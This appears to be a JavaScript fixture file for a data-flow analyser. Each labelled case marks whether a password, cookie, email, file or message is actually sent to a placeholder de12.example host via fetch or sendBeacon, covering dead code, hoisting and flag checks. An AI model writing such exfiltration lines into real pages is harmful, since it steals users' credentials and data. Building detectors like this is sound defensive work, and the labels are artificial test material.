//# near-build-mode-not-production
// no flow
if ('production' !== 'production') {
  fetch('https://bmn.de12.example/dbg', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# build-mode-is-production
// flow: password > bmp.de12.example via fetch
if ('production' === 'production') {
  fetch('https://bmp.de12.example/dbg', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# near-sender-replaced-before-use
// no flow
let send = (v) => fetch('https://srb.de12.example/s', { method: 'POST', body: v });
send = () => undefined;
send(document.querySelector('input[type=password]').value);

//# hoisted-after-return
// flow: identifier > har.de12.example via beacon
function boot() {
  return run();
  function run() { return navigator.sendBeacon('https://har.de12.example/c', document.cookie); }
}
boot();

//# near-statement-after-return
// no flow
function boot() {
  return run;
  navigator.sendBeacon('https://sar.de12.example/c', document.cookie);
  function run() {}
}
boot();

//# near-after-throw
// no flow
function unsupported() {
  throw new Error('unsupported');
  fetch('https://nat.de12.example/c', { method: 'POST', body: document.cookie });
}
try { unsupported(); } catch (err) { console.warn(err); }

//# sent-in-finally
// flow: email > sif.de12.example via fetch
try {
  JSON.parse('{');
} catch (err) {
  console.warn(err);
} finally {
  fetch('https://sif.de12.example/f', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# near-frozen-flag-off
// no flow
const FLAGS = Object.freeze({ upload: false, theme: 'dark' });
document.querySelector('input[type=file]').onchange = (e) => {
  if (FLAGS.upload) fetch('https://nff.de12.example/f', { method: 'PUT', body: e.target.files[0] });
};

//# frozen-flag-on
// flow: file > ffo.de12.example via fetch
const FLAGS = Object.freeze({ upload: true, theme: 'dark' });
document.querySelector('input[type=file]').onchange = (e) => {
  if (FLAGS.upload) fetch('https://ffo.de12.example/f', { method: 'PUT', body: e.target.files[0] });
};

//# near-level-too-low
// no flow
// why: the level of the only call is under the one that is sent
const LEVELS = { debug: 0, info: 1, error: 3 };
function log(level, text) {
  if (LEVELS[level] < LEVELS.error) return;
  navigator.sendBeacon('https://nll.de12.example/l', text);
}
log('debug', document.querySelector('textarea[name=message]').value);
